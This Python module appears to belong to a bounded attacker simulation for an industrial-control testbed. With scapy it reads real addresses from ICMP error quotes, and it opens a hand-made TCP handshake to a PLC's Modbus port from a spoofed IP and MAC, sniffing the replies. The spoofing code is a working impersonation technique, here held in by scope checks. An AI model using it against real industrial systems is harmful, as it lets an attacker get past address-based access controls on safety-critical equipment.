"""Raw-packet tactics of the ``aware`` attacker (scapy): reading a real address from an ICMP
error's quoted header, and a Modbus request from a spoofed (IP, MAC) over a hand-made TCP
handshake.

Bounds: one UDP probe per address, one handshake per (spoofed host, target), every wait at
most the caller's ``timeout_s`` (≤ 10 s). Addresses are re-checked by the scope guard before
anything is sent.
"""

from __future__ import annotations

import random
import threading
import time
from typing import Any

from attacks.attacker_common import MAX_TIMEOUT_S, Attempt, Local
from attacks.modbus_probe import probe_request
from common.modbus import MODBUS_PORT
from common.plan import AddressPlan
from common.scope import require_in_scope

# Spoofed connections use source ports below Linux's ephemeral range (32768-60999), so they
# never collide with the impersonated host's own connections in the PLC's request log.
SPOOF_PORTS = (20000, 29999)
CLOSED_UDP_PORT = 33434


def icmp_quoted_address(plan: AddressPlan, address: str, timeout_s: float) -> str:
    """UDP to a closed port of ``address``; the destination quoted in the ICMP error (the
    address the packet really reached), or "" when no error came back."""
    from scapy.layers.inet import ICMP, IP, UDP, IPerror
    from scapy.sendrecv import sr1

    target = require_in_scope(plan, address)
    reply = sr1(IP(dst=target) / UDP(sport=random.randint(40000, 49999),
                                     dport=CLOSED_UDP_PORT) / b"probe",
                timeout=min(timeout_s, MAX_TIMEOUT_S), verbose=0)
    if reply is None or ICMP not in reply or IPerror not in reply:
        return ""
    quoted = str(reply[IPerror].dst)
    return quoted if plan.in_scope(quoted) else ""


class _Catcher:
    """Collects the TCP segments ``src`` sends to ``dport`` (from the sniffer thread)."""

    def __init__(self, src: str, dport: int) -> None:
        self.src, self.dport = src, dport
        self.packets: list[Any] = []
        self.event = threading.Event()

    def __call__(self, pkt: Any) -> None:
        from scapy.layers.inet import IP, TCP

        if IP in pkt and TCP in pkt and pkt[IP].src == self.src and \
                pkt[TCP].dport == self.dport:
            self.packets.append(pkt)
            self.event.set()

    def wait_for(self, test: Any, timeout_s: float) -> Any:
        deadline = time.monotonic() + timeout_s
        while True:
            for p in self.packets:
                if test(p):
                    return p
            left = deadline - time.monotonic()
            if left <= 0:
                return None
            self.event.clear()
            self.event.wait(min(left, 0.05))


def spoofed_modbus(plan: AddressPlan, local: Local, spoof_ip: str, spoof_mac: str,
                   target: str, target_mac: str, timeout_s: float) -> Attempt:
    """A TCP handshake and one Modbus read to ``target``:502 from ``spoof_ip``/``spoof_mac``,
    sent out of the attacker's own switch port; replies are caught by sniffing (they are
    addressed to the impersonated host). Never raises; an RST ends the connection."""
    from scapy.layers.inet import IP, TCP
    from scapy.layers.l2 import Ether
    from scapy.sendrecv import AsyncSniffer, sendp

    target = require_in_scope(plan, target)
    require_in_scope(plan, spoof_ip)
    timeout_s = min(timeout_s, MAX_TIMEOUT_S)
    sport = random.randint(*SPOOF_PORTS)
    a = Attempt("spoof_authorized", target, src_ip=spoof_ip, src_port=sport,
                started_unix_s=time.time(), note=f"posing as {spoof_ip} {spoof_mac}")
    catcher = _Catcher(target, sport)
    sniffer = AsyncSniffer(iface=local.iface, store=False, prn=catcher)
    sniffer.start()
    time.sleep(0.05)
    base = Ether(src=spoof_mac, dst=target_mac) / IP(src=spoof_ip, dst=target)
    isn = random.randint(0, 2**31)
    try:
        sendp(base / TCP(sport=sport, dport=MODBUS_PORT, flags="S", seq=isn),
              iface=local.iface, verbose=0)
        synack = catcher.wait_for(lambda p: p[TCP].flags.S and p[TCP].flags.A, timeout_s)
        if synack is None:
            a.error = "no SYN-ACK seen"
            return a
        a.connected = True
        ack = synack[TCP].seq + 1
        request = probe_request(0x4243)
        sendp(base / TCP(sport=sport, dport=MODBUS_PORT, flags="PA", seq=isn + 1, ack=ack)
              / request, iface=local.iface, verbose=0)
        a.sent = True
        data = catcher.wait_for(lambda p: len(bytes(p[TCP].payload)) >= 9, timeout_s)
        a.replied = data is not None
        if data is None:
            a.error = "no Modbus reply seen"
        sendp(base / TCP(sport=sport, dport=MODBUS_PORT, flags="R",
                         seq=isn + 1 + len(request)), iface=local.iface, verbose=0)
    except OSError as exc:
        a.error = f"{type(exc).__name__}: {exc}"
    finally:
        sniffer.stop()
        a.ended_unix_s = time.time()
    return a
